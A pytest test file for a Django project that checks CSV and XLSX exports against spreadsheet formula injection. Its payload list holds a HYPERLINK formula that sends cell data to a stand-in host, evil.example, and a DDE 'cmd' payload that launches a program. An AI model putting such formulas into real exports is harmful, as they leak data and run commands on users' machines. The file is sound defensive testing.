"""Issue 7 (CSV injection): exported cells that a spreadsheet would run as formulas are escaped (CSV) or kept as text
(XLSX), whatever people typed into names and titles."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from bilim.apps.core.spreadsheets import csv_cell

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_cells_are_prefixed(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(("value", "expected"), [("-5", "-5"), ("+3.5", "+3.5"), ("-1,25", "-1,25"), ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"),
                                                 ("Ош", "Ош"), ("-", "'-"), ("=", "'=")])
def test_plain_values_and_numbers_are_unchanged(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


@pytest.mark.django_db
def test_csv_export_escapes_a_formula_typed_into_a_name() -> None:
    from bilim.apps.accounts.models import User
    from bilim.apps.org.models import Institution

    for i, payload in enumerate(PAYLOADS):
        Institution.objects.create(code=f"evil{i}", name_ky=payload, name_en=payload, country="KG")
    c = Client()
    c.force_login(User.objects.create_superuser(username="root", email="r@x.kg", password="x"))
    r = c.get("/org/institutions/export.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_xlsx_strings_starting_with_equals_are_not_formulas() -> None:
    from openpyxl import load_workbook

    from bilim.apps.mobility.documents.xlsx import statistics_workbook

    keys = ["by_term", "by_scope", "by_programme", "by_partner", "by_country", "by_faculty", "by_funding", "incoming_by_country"]
    stats: dict[str, object] = {k: [] for k in keys}
    stats["by_partner"] = [("=HYPERLINK(\"http://evil.example\",\"x\")", 2), ("Ankara University", 1)]
    wb = load_workbook(io.BytesIO(statistics_workbook(stats, lang="en")))
    sheet = next(ws for ws in wb.worksheets if ws.title == "By partner")
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "=HYPERLINK(\"http://evil.example\",\"x\")"
    assert sheet["B2"].value == 2 and sheet["B2"].data_type == "n"
